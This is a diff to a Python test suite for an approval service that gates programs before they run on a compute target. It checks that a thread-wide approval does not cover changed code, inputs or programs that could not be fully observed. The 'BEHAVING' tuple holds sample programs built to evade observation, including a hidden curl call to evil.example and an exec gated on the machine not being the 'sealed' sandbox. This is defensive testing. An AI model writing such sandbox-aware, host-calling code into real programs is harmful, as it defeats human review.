@@ -17,7 +17,7 @@ from services.approvals.desk import Approvals
 from services.desk import FrontDesk
 from services.errors import BadRequest, NotAllowed, Outdated
 from services.history import History
-from services.model import Engine, InputFile, PolicyReport, Program, sha256
+from services.model import Engine, InputFile, PolicyReport, Program, Touched, sha256
 from services.pending import PendingDesk
 from services.records import (
     Input,
@@ -541,7 +541,7 @@ async def test_an_approval_for_the_thread(world: World):
     runs, first = world.runs(THREAD), await world.open()
     await runs.approve_thread(first.id, first.program.sha256, "UA", first.target)
     assert world.narrator.told[-1] == f"{first.id} for the thread by UA"
-    second = await world.open(2, program=Program("Other", "Other.", "print('other')\n"))
+    second = await world.open(2, program=Program("Other", "Other.", first.program.code))
     for _ in range(2):
         assert await runs.approve_at_once(second.task_id) == second.id
     approved = await world.store.proposals.get(second.id)
@@ -553,9 +553,10 @@ async def test_an_approval_for_the_thread(world: World):
 @pytest.mark.parametrize(
     ("changes", "rule"),
     [
-        ({"policy": PolicyReport(hosts=("evil.example",))}, THREAD),
         ({"policy": PolicyReport(resources={"CPU": 99})}, THREAD),
         ({"target": "gpu"}, THREAD),
+        ({"program": Program("Other", "Other.", "print('Result: 4')\n")}, THREAD),
+        ({"inputs": (Input("a.csv", "0" * 64, 1),)}, THREAD),
         ({"requester": "UOTHER"}, THREAD),
         ({}, Rule()),
         ({}, replace(THREAD, users=frozenset({"UB"}))),
@@ -568,6 +569,92 @@ async def test_an_approval_for_the_thread_covers_no_more(world: World, changes: 
     second = await world.open(2, **changes)
     assert await world.runs(rule).approve_at_once(second.task_id) is None
     assert (await world.store.proposals.get(second.id)).status is ProposalStatus.OPEN
+
+
+async def test_an_approval_for_the_thread_covers_other_numbers(world: World):
+    runs = world.runs(THREAD)
+    first = await world.open(1, program=Program("Count", "Counts.", "print(1 + 2)\n"))
+    await runs.approve_thread(first.id, first.program.sha256, "UA", first.target)
+    for number, (code, approved) in enumerate(
+        {"print(30 + 4e2)\n": True, "print(1 - 2)\n": False, "print(1 + len('2'))\n": False}.items(), 2
+    ):
+        other = await world.open(number, program=Program("Count", "Counts.", code))
+        assert await runs.approve_at_once(other.task_id) == (other.id if approved else None)
+
+
+async def test_a_program_that_behaves_while_it_is_watched_waits_for_a_press(world: World):
+    """The evidence of both is the same and empty, whatever the second does on the target."""
+    runs, first = world.runs(THREAD), await world.open()
+    await runs.approve_thread(first.id, first.program.sha256, "UA", first.target)
+    for number, code in enumerate(BEHAVING, 2):
+        other = await world.open(number, program=Program(first.program.title, first.program.purpose, code))
+        assert await runs.approve_at_once(other.task_id) is None
+        assert (await world.store.proposals.get(other.id)).status is ProposalStatus.OPEN
+
+
+BEHAVING = (
+    "import logging\nlogging.os.system('curl evil.example') if 0 else print('Result: 3')\n",
+    "import platform\nif platform.uname().nodename != 'sealed': exec(bytes([112]).decode())\nprint('Result: 3')\n",
+    "print('Result: 3')\n# another comment\n",
+    "\"A docstring.\"\nprint('Result: 3')\n",
+)
+
+
+async def test_what_has_not_begun_when_the_approval_for_the_thread_ends_does_not_run(world: World):
+    runs, first, second = world.runs(THREAD), await world.open(), await world.open(2)
+    await runs.approve_thread(first.id, first.program.sha256, "UA", first.target)
+    (grant,) = await world.store.grants.live("s_1", time.time())
+    assert await runs.approve_at_once(second.task_id) == second.id
+    await runs.end_grant(grant, "UENGINEER")
+    await runs.open(second.id)
+    with pytest.raises(NotAllowed, match="ended before this run began"):
+        await runs.submit(second.id)
+    assert world.target.jobs == {}
+
+
+async def test_what_has_begun_goes_on_when_the_approval_for_the_thread_ends(world: World):
+    runs, first, second = world.runs(THREAD), await world.open(), await world.open(2)
+    await runs.approve_thread(first.id, first.program.sha256, "UA", first.target)
+    (grant,) = await world.store.grants.live("s_1", time.time())
+    await runs.approve_at_once(second.task_id)
+    await carry_out(runs, second)
+    await runs.end_grant(grant, "UENGINEER")
+    await runs.submit(second.id)
+    assert list(world.target.jobs) == [run_id(second.id)]
+
+
+async def test_an_approval_for_the_thread_is_compared_once_more_when_the_run_begins(world: World):
+    runs, first, second = world.runs(THREAD), await world.open(), await world.open(2)
+    await runs.approve_thread(first.id, first.program.sha256, "UA", first.target)
+    (grant,) = await world.store.grants.live("s_1", time.time())
+    await runs.approve_at_once(second.task_id)
+    table = tables.grants
+    async with world.store.grants._engine.begin() as connection:
+        await connection.execute(table.update().where(table.c.id == grant.id).values(fingerprint="0:other"))
+    await runs.open(second.id)
+    with pytest.raises(NotAllowed, match="does not cover this program"):
+        await runs.submit(second.id)
+    assert world.target.jobs == {}
+
+
+@pytest.mark.parametrize(
+    "unseen",
+    [
+        {"unknown": ("hosts",)},
+        {"unknown": ("resources",)},
+        {"wall": None},
+        {"touched": Touched(more={"files": 1})},
+    ],
+)
+async def test_what_could_not_be_observed_in_full_is_approved_alone(world: World, unseen: dict[str, Any]):
+    runs, first = world.runs(THREAD), await world.open()
+    await runs.approve_thread(first.id, first.program.sha256, "UA", first.target)
+    second = await world.open(2, validation=builders.passed(**unseen))
+    assert await runs.approve_at_once(second.task_id) is None
+    with pytest.raises(NotAllowed, match="could not be observed in full"):
+        await runs.approve_thread(second.id, second.program.sha256, "UA", second.target)
+    assert not world.approvals(THREAD).needs(second, "CRAY").thread, "the card doesn't offer it"
+    assert (await approve(runs, second, "UA")).status is ProposalStatus.APPROVED
 
 
 async def test_an_approval_for_the_thread_ends(world: World, monkeypatch: pytest.MonkeyPatch):
